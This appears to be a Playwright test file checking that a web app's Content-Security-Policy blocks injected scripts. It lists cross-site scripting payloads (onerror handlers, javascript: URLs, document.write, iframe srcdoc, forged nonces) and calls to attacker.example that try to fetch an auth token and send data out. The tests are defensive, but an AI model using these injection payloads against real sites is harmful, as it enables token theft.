/** What the Content-Security-Policy is for: a script that is smuggled into a page does not run, and so gets no token. */
import type { Page } from "@playwright/test";
import { expect, test } from "./support/fixtures";

test.use({ attacks: true });

declare global {
  interface Window {
    /** What the scripts below set if they run. */
    attacker?: unknown;
  }
}

const THEFT = "window.attacker = 1; fetch('/api/auth/token')";

/** Ways from a text to a script of the page it is shown on. Not among them: an element made by a script, which runs already. */
const inPage: [what: string, smuggle: (theft: string) => void][] = [
  ["an event handler in innerHTML", (theft) => document.body.insertAdjacentHTML("beforeend", `<img src="/no.png" onerror="${theft}">`)],
  ["document.write", (theft) => document.write(`<script>${theft}</script>`)],
  ["a javascript: address", (theft) => document.body.appendChild(Object.assign(document.createElement("a"), { href: `javascript:${theft}` })).click()],
  ["eval", (theft) => void window.setTimeout(theft, 0)],
  ["a frame with a page of its own", (theft) => document.body.append(Object.assign(document.createElement("iframe"), { srcdoc: `<script>parent.${theft}</script>` }))],
];

/** The same in the answer of the server, as if a title had not been escaped. */
const inAnswer: [what: string, html: string][] = [
  ["an inline script", `<script>${THEFT}</script>`],
  ["an inline script with a nonce that is made up", `<script nonce="AAAAAAAAAAAAAAAAAAAAAA==">${THEFT}</script>`],
  ["a script from elsewhere", '<script src="https://attacker.example/script.js"></script>'],
  ["a script from this origin", '<script src="/attacker.js"></script>'],
  ["another base for the addresses of the scripts", '<base href="https://attacker.example/">'],
];

/** Everything that the page gets from the network and that only the attacker asks for. */
function watchNetwork(page: Page): string[] {
  const answered: string[] = [];
  page.on("response", (response) => /attacker|\/api\/auth\/token$/.test(response.url()) && answered.push(response.url()));
  return answered;
}

/** Resolves once the browser has refused something. Fails if a script of the attacker has run, or has got as far as the network. */
async function expectRefusal(page: Page, violations: string[], answered: string[]): Promise<void> {
  await expect.poll(() => violations.length).toBeGreaterThan(0);
  expect(await page.evaluate(() => window.attacker)).toBeUndefined();
  expect(answered).toEqual([]);
}

for (const [what, smuggle] of inPage) {
  test(`${what} does not run`, async ({ signUp, violations }) => {
    const { page } = await signUp("Ada");
    const answered = watchNetwork(page);
    await page.evaluate(smuggle, THEFT);
    await expectRefusal(page, violations, answered);
  });
}

for (const [what, html] of inAnswer) {
  test(`${what} in an answer of the server does not run, and the page does`, async ({ page, stack, violations }) => {
    const answered = watchNetwork(page);
    await page.route(/attacker/, (route) => route.fulfill({ contentType: "text/javascript", body: THEFT }));
    await page.route(`${stack.webUrl}/sign-in`, async (route) => {
      const response = await route.fetch();
      await route.fulfill({ response, body: (await response.text()).replace("<head>", `<head>${html}`) });
    });
    await page.goto(`${stack.webUrl}/sign-in`);
    await expect(page.getByRole("button", { name: "Sign in" })).toBeEnabled();
    await expectRefusal(page, violations, answered);
  });
}

const sending: [what: string, send: () => void][] = [
  ["a request", () => void fetch("https://attacker.example/").catch(() => null)],
  ["a form", () => document.body.appendChild(Object.assign(document.createElement("form"), { action: "https://attacker.example/", method: "post" })).submit()],
];

for (const [what, send] of sending) {
  test(`${what} to another origin is not sent`, async ({ signUp, violations }) => {
    const { page } = await signUp("Ada");
    const answered = watchNetwork(page);
    await page.route(/attacker/, (route) => route.fulfill({ body: "" }));
    await page.evaluate(send);
    await expectRefusal(page, violations, answered);
  });
}
